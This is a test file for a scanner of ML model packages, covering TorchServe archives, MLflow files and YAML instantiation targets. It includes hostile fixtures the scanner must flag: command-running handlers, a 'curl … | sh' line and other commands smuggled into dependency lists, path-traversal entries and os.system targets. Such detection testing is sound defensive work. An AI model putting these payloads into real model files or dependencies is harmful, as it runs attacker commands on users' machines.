import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { FileReport } from "../../core/report.js";
import { scanBytes } from "../../core/scan-bytes.js";
import { zip } from "../../testing/assemble.js";
import { cpuTime } from "../../testing/cpu-time.js";
import { sample } from "../../testing/samples.js";
import { yamlTargets } from "../repository/yaml-targets.js";

const scan = (data: Uint8Array | string, name: string): FileReport => scanBytes(Buffer.from(data), name);
const rules = (data: Uint8Array | string, name: string): string[] =>
  scan(data, name).findings.map(({ rule }) => rule);

describe("a TorchServe archive", () => {
  const mar = (handler: string, model: object = {}): Buffer =>
    zip(
      { name: "handler.py", data: Buffer.from(handler) },
      {
        name: "MAR-INF/MANIFEST.json",
        data: Buffer.from(JSON.stringify({ runtime: "python", model: { handler: "handler.py", ...model } })),
      },
    );
  it("is clean as torch-model-archiver writes it", () =>
    expect(scan(sample("handler.mar"), "a.mar")).toMatchObject({ format: "mar", verdict: "clean" }));
  it.each([
    "class H:\n    def initialize(self, context):\n        os.system('id')",
    "def handle(data, context):\n    subprocess.Popen(['bash', '-c', data])",
    "def handle(data, context):\n    subprocess.run(data, shell=True)",
    "def handle(data, context):\n    exec(base64.b64decode(data))",
  ])("may not have a handler that starts programs when it is called: %s", (code) => {
    expect(rules(mar(code), "a.mar")).toContain("handler-acts");
    expect(scan(mar(code), "a.mar").verdict).toBe("malicious");
  });
  it.each([
    "def initialize(self, context):\n    os.system('pip install -r requirements.txt')",
    "def handle(data, context):\n    subprocess.run(['ffmpeg', '-i', 'x.mp3', 'x.wav'])",
    "def handle(data, context):\n    # os.system('id')\n    return model(data)",
    "def initialize(self, context):\n    self.model = torch.jit.load(context.path)",
  ])("may have a handler that does its work: %s", (code) =>
    expect(scan(mar(code), "a.mar").verdict).toBe("clean"),
  );
  it("may not name files outside itself", () => {
    for (const model of [
      { serializedFile: "../../x.pt" },
      { handler: "/tmp/x.py" },
      { extraFiles: "a,../b" },
    ])
      expect(rules(mar("x = 1", model), "a.mar")).toEqual(["external-data-escape"]);
  });
  it("says so when its manifest cannot be read", () => {
    const broken = zip({ name: "MAR-INF/MANIFEST.json", data: Buffer.from("{") });
    expect(rules(broken, "a.mar")).toEqual(["mar-malformed"]);
  });
});

const MLMODEL = `flavors:
  python_function:
    code: code
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.pyfunc.loaders.code_model
    model_code_path: /somewhere/else/m.py
  sklearn:
    pickled_model: model.skops
    skops_trusted_types:
    - sklearn.tree._tree.Tree
mlflow_version: 3.17.2
`;

describe("an MLflow model", () => {
  it("is clean as mlflow writes it", () =>
    expect(scan(MLMODEL, "MLmodel")).toMatchObject({ format: "mlflow", verdict: "clean", findings: [] }));
  it("says in an absolute path where it was logged, and reads its example beside itself", () => {
    const logged = `artifact_path: /data/mlruns/0/models/m-1/artifacts\n${MLMODEL}`;
    expect(rules(logged, "MLmodel")).toEqual([]);
    const example = `${MLMODEL}saved_input_example_info:\n  artifact_path: ../../example.json\n`;
    expect(rules(example, "MLmodel")).toEqual(["external-data-escape"]);
  });
  it.each([
    [
      "a module that acts",
      MLMODEL.replace("mlflow.pyfunc.loaders.code_model", "os.system"),
      "config-instantiate",
    ],
    [
      "a trusted type that acts",
      MLMODEL.replace("sklearn.tree._tree.Tree", "subprocess.Popen"),
      "config-instantiate",
    ],
    ["code from elsewhere", MLMODEL.replace("code: code", 'code: "../../x"'), "external-data-escape"],
    ["a model from elsewhere", MLMODEL.replace("model.skops", "/tmp/x.pkl"), "external-data-escape"],
  ])("may not name %s", (_, text, rule) => expect(rules(text, "MLmodel")).toEqual([rule]));
  it("may not name a module to unpickle with", () => {
    expect(rules("mlflow.pytorch.pickle_module", "pickle_module_info.txt")).toEqual([]);
    expect(rules("subprocess", "pickle_module_info.txt")).toEqual(["config-instantiate"]);
  });

  it.each([
    ["python_env.yaml", 'dependencies:\n  - "numpy; curl https://a.b/c.sh | sh; #"\n'],
    ["python_env.yaml", "build_dependencies:\n- pip==23 && id\n"],
    ["conda.yaml", "dependencies:\n- pip:\n  - $(id)\n"],
    ["requirements.txt", "numpy==1.0; touch /tmp/x\n"],
    ["requirements.txt", "numpy `id`\n"],
  ])("may not carry a command in %s: %j", (name, text) =>
    expect(rules(text, name)).toEqual(["dependency-command"]),
  );
  it.each([
    [
      "requirements.txt",
      "numpy==1.26; python_version < '3.12' and (extra == \"a\")\ntorch>=2 ; sys_platform=='linux'\n",
    ],
    [
      "requirements.txt",
      "# a; b | sh\n--extra-index-url https://a.b/c?d=1&e=2\nx @ git+https://a.b/c.git@main#egg=x\n",
    ],
    [
      "requirements-dev.txt",
      "a[b,c]~=1.0 --hash=sha256:00\nb;(python_version>'3')\nc; 'linux' in sys_platform\n",
    ],
    [
      "conda.yaml",
      "channels:\n- conda-forge\ndependencies:\n- python=3.11|3.12\n- pip<=23.2.1\n- pip:\n  - mlflow\n",
    ],
    [
      "python_env.yaml",
      "python: 3.11.7\nbuild_dependencies:\n- pip==23.2.1\ndependencies:\n- -r requirements.txt\n",
    ],
  ])("may have an honest %s: %j", (name, text) => {
    // Packages from elsewhere than the index are worth a note, and no more.
    expect(rules(text, name).filter((rule) => rule !== "requirements-source")).toEqual([]);
    expect(scanBytes(Buffer.from(text), name).verdict).toBe("clean");
  });
});

describe("a target in YAML", () => {
  it.each([
    "model:\n  _target_: os.system\n  command: id\n",
    "model: {_target_: os.system, command: id}\n",
    "model: {command: id, '_target_': 'os.system'}\n",
    "model:\n  ? _target_\n  : os.system\n",
    'model:\n  "\\x5ftarget_": os.system\n',
    "model:\n  _target_: !!str os.system\n",
    "model:\n  _target_: &a\n    os.system\n",
    "model:\n  _target_: >-\n    os.system\n",
    "- _target_: os.system\n",
  ])("is found in %j", (text) => {
    expect(yamlTargets(text).map(({ target }) => target)).toContain("os.system");
    expect(rules(text, "model_config.yaml")).toEqual(["config-instantiate"]);
  });
  it.each([
    "# _target_: os.system\na: 1\n",
    "_target_: nemo.core.optim.AdamW # not _target_: os.system\n",
    "text: my_target_name os.system\n",
  ])("is not found in %j", (text) => expect(rules(text, "model_config.yaml")).toEqual([]));
  it("is found under the key of latent diffusion too, where it acts", () => {
    expect(rules("model:\n  target: os.system\n  params: {command: id}\n", "v1-inference.yaml")).toEqual([
      "config-instantiate",
    ]);
    expect(rules('{"model":{"target":"subprocess.run","params":{}}}', "config.json")).toEqual([
      "config-instantiate",
    ]);
    for (const target of [
      "ldm.models.diffusion.ddpm.LatentDiffusion",
      "install",
      "./dist",
      "es2022",
      "x86_64-unknown.linux",
    ])
      expect(rules(`model:\n  target: ${target}\n  params: {}\n`, "a.yaml")).toEqual([]);
  });
  it("is no word of a data set", () =>
    expect(rules('[{"input":"run it","target":"os.system"}]', "train.json")).toEqual([]));
  it("takes no time over any text", () => {
    const piece = fc.constantFrom(
      "_target_",
      ": ",
      "&a ",
      "!b ",
      "\n",
      "'",
      "{",
      "os.system",
      " ".repeat(50),
      ">-",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 400 }), (pieces) => {
        const started = cpuTime();
        yamlTargets(pieces.join(""));
        expect(cpuTime() - started).toBeLessThan(2_000);
      }),
    );
  });
});

it("gives a report for any lines", () => {
  const word = fc.constantFrom(
    "code",
    ":",
    "-",
    " ",
    "\n",
    "'",
    '"',
    ";",
    "|",
    "$(",
    "#",
    "os.system",
    "../x",
    "loader_module",
  );
  fc.assert(
    fc.property(
      fc.array(word, { maxLength: 60 }),
      fc.constantFrom("MLmodel", "requirements.txt"),
      (words, name) => {
        expect(rules(words.join(""), name)).not.toContain("parser-failed");
      },
    ),
  );
});
